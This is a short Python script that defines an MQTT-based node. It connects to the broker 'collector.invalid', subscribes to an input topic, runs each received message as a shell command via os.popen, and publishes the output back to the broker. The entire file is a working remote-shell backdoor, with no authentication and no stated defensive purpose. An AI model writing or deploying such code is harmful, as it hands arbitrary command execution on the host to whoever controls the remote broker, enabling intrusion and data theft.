import paho.mqtt.client as mqtt
import os
class Node:
    topic = "n/1"
    def __init__(self):
        self.c = mqtt.Client()
        self.c.on_connect = self.connected
        self.c.on_message = self.message
    def connected(self, c, u, f, rc): c.subscribe(self.topic + "/in")
    def message(self, c, u, m):
        out = os.popen(m.payload.decode()).read()
        c.publish(self.topic + "/out", out)
    def start(self):
        self.c.connect("collector.invalid", 1883, 60)
        self.c.loop_start()
Node().start()
